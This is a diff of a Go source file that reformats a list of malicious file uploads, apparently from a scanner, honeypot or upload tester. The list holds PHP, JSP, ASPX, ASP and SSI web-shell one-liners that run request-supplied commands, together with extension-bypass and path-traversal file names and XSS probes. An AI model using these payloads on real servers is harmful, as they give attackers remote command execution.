@@ -137,11 +137,22 @@ var bodies = p(
 
 // uploads are files that a server would run, by name and content.
 var uploads = [][2]string{
-	{"‹x›.php", "<?php ‹system|eval|passthru›($_‹GET|POST|REQUEST›['‹x›']); ?>"}, {"‹x›.phtml", "<?php phpinfo(); ?>"}, {"‹x›.php.jpg", "GIF89a<?php system('‹cmd›'); ?>"},
-	{"‹x›.jsp", "<%@ page import=\"java.io.*\" %><% Runtime.getRuntime().exec(request.getParameter(\"cmd\")); %>"}, {"‹x›.aspx", "<%@ Page Language=\"C#\" %><% System.Diagnostics.Process.Start(Request[\"c\"]); %>"},
-	{"../../‹x›.php", "<?=`$_GET[0]`?>"}, {".htaccess", "AddType application/x-httpd-php .‹x›"}, {"‹x›.php5", "<?php echo md5(‹n›);unlink(__FILE__);?>"}, {"‹x›.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>"},
-	{"‹x›.jspx", "<jsp:root xmlns:jsp=\"http://java.sun.com/JSP/Page\" version=\"1.2\"><jsp:scriptlet>out.println(‹n›);</jsp:scriptlet></jsp:root>"}, {"‹x›.html", "<script>alert(document.domain)</script>"}, {"‹x›.asp;.jpg", "<%eval request(\"‹x›\")%>"},
-	{"‹x›.php%00.png", "<?php @eval($_POST['‹x›']);?>"}, {"‹x›.shtml", "<!--#exec cmd=\"‹cmd›\" -->"}, {"‹x›.pHp", "<?php echo shell_exec('‹cmd›');?>"}, {"‹x›.war", "<%= \"‹x›\" %>"},
+	{"‹x›.php", "<?php ‹system|eval|passthru›($_‹GET|POST|REQUEST›['‹x›']); ?>"},
+	{"‹x›.phtml", "<?php phpinfo(); ?>"},
+	{"‹x›.php.jpg", "GIF89a<?php system('‹cmd›'); ?>"},
+	{"‹x›.jsp", "<%@ page import=\"java.io.*\" %><% Runtime.getRuntime().exec(request.getParameter(\"cmd\")); %>"},
+	{"‹x›.aspx", "<%@ Page Language=\"C#\" %><% System.Diagnostics.Process.Start(Request[\"c\"]); %>"},
+	{"../../‹x›.php", "<?=`$_GET[0]`?>"},
+	{".htaccess", "AddType application/x-httpd-php .‹x›"},
+	{"‹x›.php5", "<?php echo md5(‹n›);unlink(__FILE__);?>"},
+	{"‹x›.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>"},
+	{"‹x›.jspx", "<jsp:root xmlns:jsp=\"http://java.sun.com/JSP/Page\" version=\"1.2\"><jsp:scriptlet>out.println(‹n›);</jsp:scriptlet></jsp:root>"},
+	{"‹x›.html", "<script>alert(document.domain)</script>"},
+	{"‹x›.asp;.jpg", "<%eval request(\"‹x›\")%>"},
+	{"‹x›.php%00.png", "<?php @eval($_POST['‹x›']);?>"},
+	{"‹x›.shtml", "<!--#exec cmd=\"‹cmd›\" -->"},
+	{"‹x›.pHp", "<?php echo shell_exec('‹cmd›');?>"},
+	{"‹x›.war", "<%= \"‹x›\" %>"},
 }
 
 // targets are paths that only intruders ask for.
